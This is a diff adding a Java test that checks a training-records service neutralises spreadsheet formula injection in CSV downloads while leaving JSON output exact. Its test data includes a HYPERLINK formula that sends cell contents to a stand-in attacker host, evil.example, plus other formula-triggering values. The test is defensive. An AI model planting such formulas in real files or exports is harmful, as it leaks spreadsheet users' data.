@@ -126,4 +126,28 @@ class TrainingDownloadsTest {
             assertThat(parser.getRecords()).hasSize(23);
         }
     }
+
+    @Test
+    void cellsASpreadsheetWouldRunAsFormulasAreNeutralisedInCsvButExactInJson() throws Exception {
+        String formula = unique("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")");
+        records.training(formula).region("northern-europe").inYear(2095).country("@SUM(1+1)")
+                .partners("-2+3; +cmd").save();
+
+        String csv = mvc.perform(get("/trainings.csv?region=northern-europe&year=2095")).andExpect(status().isOk())
+                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
+        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv))) {
+            CSVRecord row = parser.getRecords().get(0);
+            assertThat(row.get("title")).isEqualTo("'" + formula);
+            assertThat(row.get("country")).isEqualTo("'@SUM(1+1)");
+            assertThat(row.get("partners")).isEqualTo("'-2+3; +cmd");
+            assertThat(row.get("start")).as("ordinary cells untouched").isEqualTo("2095");
+        }
+        assertThat(csv).as("every cell quoted").contains("\"'@SUM(1+1)\"");
+
+        JsonNode row = json.readTree(mvc.perform(get("/trainings.json?region=northern-europe&year=2095"))
+                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8)).get(0);
+        assertThat(row.get("title").asString()).isEqualTo(formula);
+        assertThat(row.get("country").asString()).isEqualTo("@SUM(1+1)");
+    }
 }
